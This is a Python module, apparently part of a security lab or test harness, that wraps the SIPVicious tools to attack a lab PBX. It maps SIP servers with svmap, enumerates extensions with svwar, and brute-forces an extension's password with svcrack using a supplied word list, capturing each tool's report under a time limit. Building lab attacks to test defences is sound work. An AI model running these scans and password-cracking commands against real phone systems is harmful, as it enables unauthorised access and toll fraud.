"""SIPVicious, as it is used against real systems, with every run bounded in time."""

import subprocess
import time
from dataclasses import dataclass
from pathlib import Path

from ringfence.lab.network import PBX_ADDRESS, Host


@dataclass(frozen=True, slots=True)
class Attack:
    """What an attacker's tool reported and how long it ran."""

    seconds: float
    report: str
    was_cut_off: bool

    def found(self, text: str) -> bool:
        """Whether the tool's table of results holds this text."""
        return any(text in line for line in self.report.splitlines() if line.startswith("|"))


def map_servers(host: Host, home: Path, seconds: float = 5.0) -> Attack:
    """svmap: find SIP servers and their make."""
    return _run(host, home, ["svmap", "-p", "5060", PBX_ADDRESS], seconds)


def enumerate_extensions(
    host: Host, home: Path, extensions: str = "100-999", method: str = "REGISTER", seconds: float = 8.0
) -> Attack:
    """svwar: find out which extensions exist."""
    pace = ["-t", "0.005", "--maximumtime", "2"]
    return _run(host, home, ["svwar", "-e", extensions, "-m", method, "--force", *pace, PBX_ADDRESS], seconds)


def crack_password(
    host: Host, home: Path, extension: str, words: list[str], domain: str = "", seconds: float = 20.0
) -> Attack:
    """svcrack: guess the password of one extension from a word list."""
    home.mkdir(parents=True, exist_ok=True)
    dictionary = home / "words.txt"
    dictionary.write_text("\n".join(words) + "\n")
    pace = ["-t", "0.005", "--maximumtime", "3"]
    realm = ["--domain", domain] if domain else []
    return _run(host, home, ["svcrack", "-u", extension, "-d", str(dictionary), *pace, *realm, PBX_ADDRESS], seconds)


def _run(host: Host, home: Path, argv: list[str], seconds: float) -> Attack:
    home.mkdir(parents=True, exist_ok=True)
    begun = time.monotonic()
    command = host.command("env", f"HOME={home}", "COLUMNS=200", *argv, "-b", host.address, "-x", host.address)
    with subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL, process_group=0
    ) as process:
        try:
            report, _ = process.communicate(timeout=seconds)
            cut_off = False
        except subprocess.TimeoutExpired:
            process.kill()
            report, _ = process.communicate()
            cut_off = True
    return Attack(time.monotonic() - begun, report.decode("utf-8", "replace"), cut_off)
